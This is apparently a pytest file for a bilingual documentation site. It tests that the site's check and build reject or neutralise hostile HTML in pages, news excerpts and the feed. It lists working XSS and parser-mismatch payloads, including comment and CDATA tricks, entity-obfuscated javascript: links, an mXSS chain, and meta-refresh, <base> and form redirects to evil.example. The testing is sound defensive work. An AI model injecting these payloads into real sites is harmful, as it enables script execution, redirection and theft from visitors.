"""Attack 2: raw HTML that Python's html.parser reads as harmless but a browser reads as live (a comment that
ends at once, CDATA outside SVG, <noscript>, a bogus comment), or that is harmless markup hiding a script
address (entities, tabs, newlines, control characters before the scheme), or that changes where the page
goes (<base>, a meta refresh) or what it runs (a script of the site's own). `make check` judges a page's
HTML as a browser parses it and refuses each, at the page's file; built, nothing of it is live under
Chromium's parse, in the page, in the news listing's excerpt or in the feed."""
from __future__ import annotations

import pytest

from browser_judge import live_pages, site_judge
from conftest import post_front, write_post
from contributed import assert_refused, build, commit_and_clone
from plansite.check.checks import run_checks

PAYLOADS = [
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<script src="/assets/javascripts/site.js"></script>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="&#x20;javascript&colon;alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#x01;javascript:alert(1)">x</a>',
    '<img src="x" alt="x" onerror="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<base href="https://evil.example/">',
    '<?xml-stylesheet href="x.xsl"?>',
    "<div>a</-x>b</div>",
    "<!DOCTYPE html>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example/"><button>Gửi</button></form>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<span style="background:url(https://evil.example/x.png)">x</span>',
    '<img src="https://evil.example/pixel.png" alt="x">',
    '<img src="\\\\evil.example/pixel.png" alt="x">',
    '<div id="__config">{"base": "https://evil.example/"}</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<object data="x.svg"></object>',
    '<p title="<!-- more -->">x</p>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
]
# Markup Python's html.parser reads as one comment, and a browser as a comment that ends at once, followed by
# live markup: what today's content got past the check with.
HIDDEN = [
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<!--><meta http-equiv="refresh" content="0;url=https://evil.example/">-->',
    '<!--><script src="/assets/javascripts/site.js"></script>-->',
    '<!--><base href="https://evil.example/">-->',
    "<!--><a href=java&#9;script:alert(1)>x</a>-->",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_make_check_refuses_html_a_browser_would_run(project, payload):
    page = project / "docs/vi/huong-dan.md"
    page.write_text(page.read_text(encoding="utf-8") + f"\n\nĐoạn mới.\n\n{payload}\n", encoding="utf-8")
    problems = run_checks(project)[1]
    assert [p for p in problems if p.path == "docs/vi/huong-dan.md"], problems
    assert all(p.path == "docs/vi/huong-dan.md" for p in problems), problems


def test_hostile_html_in_an_article_and_its_excerpt_is_refused_or_inert(project, tmp_path, browser, ended_site):
    """Committed in the excerpt of an article (shown on the news listing) and in its body; built as CI builds
    a preview. Either the build refuses it, with the file and no traceback, or no page and no feed item has
    anything live in Chromium's parse."""
    body = "\n\n".join(["Mở đầu.", *HIDDEN, "<!-- more -->", "Nội dung.", *HIDDEN]) + "\n"
    for language in ("vi", "en"):
        write_post(project, language, "2026-11-30-tan-cong.md", post_front("tan-cong", "2026-11-30"), body)
    clone = commit_and_clone(project, tmp_path / "clone")
    site_dir = tmp_path / "site"
    result = build(clone, site_dir)
    if result.returncode != 0:
        assert_refused(result, "docs/vi/tin-tuc/posts/2026-11-30-tan-cong.md:", "docs/en/tin-tuc/posts/2026-11-30-tan-cong.md:")
        assert not site_dir.exists()
        return
    assert live_pages(site_judge(browser, ended_site), site_dir) == {}


def test_the_judge_sees_what_chromium_runs(browser, ended_site):
    """The browser judge itself: the parser mismatches above are live to it, plain content is not."""
    judge = site_judge(browser, ended_site)
    page = (ended_site / "huong-dan/index.html").read_text(encoding="utf-8")
    assert judge(page) == []
    for payload, live in [("<!--><script>alert(1)</script>-->", "script"), ("<![CDATA[><img src=x onerror=alert(1)>]]>", "img[onerror]"),
                          ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "img[onerror]"),
                          ('<a href="java&#9;script:alert(1)">x</a>', "a[href=javascript:]"),
                          ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "meta[http-equiv=refresh]")]:
        found = judge(page.replace("<h1", payload + "<h1", 1))
        assert any(item.startswith(live) for item in found), (payload, found)


@pytest.mark.parametrize("cut", ['<p>Mở đầu <span title="', "<div><b>đậm", "<p>x<!-- chưa đóng", '<table><tr><td>ô',
                                 '<a href="javascript:alert(1)">x', "<p>a</p><noscript><p>"])
def test_an_excerpt_cut_anywhere_is_closed_and_clean_before_the_listing_prints_it(cut):
    """The news listing prints each article's HTML up to its separator, one after another: whatever the cut
    leaves open is closed, and nothing outside the allowlist is left (hooks/safety.py, plansite's `sanitised`)."""
    from plansite.check.html_safety import removed_by_sanitiser, sanitised

    clean = sanitised(cut)
    assert removed_by_sanitiser(clean) == [] and sanitised(clean) == clean
    assert sanitised(clean + '<p class="next">') == clean + '<p class="next"></p>'  # the next excerpt stands apart
